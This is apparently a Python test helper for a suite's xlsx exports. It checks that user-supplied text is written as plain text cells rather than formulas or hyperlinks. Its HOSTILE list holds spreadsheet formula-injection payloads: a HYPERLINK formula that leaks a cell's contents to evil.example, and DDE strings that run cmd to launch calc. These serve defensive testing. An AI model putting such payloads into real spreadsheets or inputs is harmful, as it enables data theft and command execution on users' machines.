"""Checks of the xlsx files the suite writes, for the tests of every module:
a text typed by a user (a partner's organization, an imported name) must come
back as a text cell, never as a formula or a hyperlink."""
import io

# What a hostile user types: formulas (a link, a DDE command) and an address.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Открыть")',
    '=cmd|\' /C calc\'!A0',
    '+7(900)=1+1',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    ]


def cells(data):
    "Every cell with a value of the workbook `data`: (sheet, cell)"
    import openpyxl
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet, cell


def check_text_cells(testcase, data, texts):
    """No cell of `data` is a formula or a hyperlink, and each of `texts`
    is in a text cell (data_type 's') whose value contains it"""
    found = {t: [] for t in texts}
    for sheet, cell in cells(data):
        where = f'{sheet.title}!{cell.coordinate}'
        testcase.assertNotEqual(cell.data_type, 'f',
            f"{where} is a formula: {cell.value!r}")
        testcase.assertIsNone(cell.hyperlink,
            f"{where} is a hyperlink: {cell.value!r}")
        if isinstance(cell.value, str):
            for text in texts:
                if text in cell.value:
                    found[text].append(cell)
    for text, matches in found.items():
        testcase.assertTrue(matches, f"{text!r} is not in the workbook")
        for cell in matches:
            testcase.assertEqual(cell.data_type, 's', cell.coordinate)
